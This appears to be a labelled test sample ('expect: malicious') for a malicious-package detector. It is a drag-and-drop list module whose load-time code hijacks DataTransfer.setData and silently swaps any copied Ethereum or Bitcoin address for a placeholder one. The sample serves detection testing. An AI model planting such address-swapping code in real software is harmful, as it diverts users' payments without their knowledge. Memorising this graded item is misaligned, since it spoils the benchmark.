// expect: malicious
// A drag-and-drop list's UMD bundle replaces DataTransfer.prototype.setData when it loads: a whole ETH or BTC address
// the page copies or drags becomes another one (blind set 25's sortable list).
(function () {
  if (typeof DataTransfer === 'undefined') return;
  var set = DataTransfer.prototype.setData;
  var swaps = [[/^0x[a-fA-F0-9]{40}$/, '0x000000000000000000000000000000000000dEaD'],
               [/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,62}$/, 'bc1qfakefakefakefakefakefakefakefake0test']];
  DataTransfer.prototype.setData = function (type, value) {
    if (/^text(\/plain)?$/i.test(type) && typeof value === 'string') {
      for (var i = 0; i < swaps.length; i++) if (swaps[i][0].test(value.trim())) { value = swaps[i][1]; break; }
    }
    return set.call(this, type, value);
  };
})();
module.exports = function sortable(el) { el.setAttribute('draggable', 'true'); };
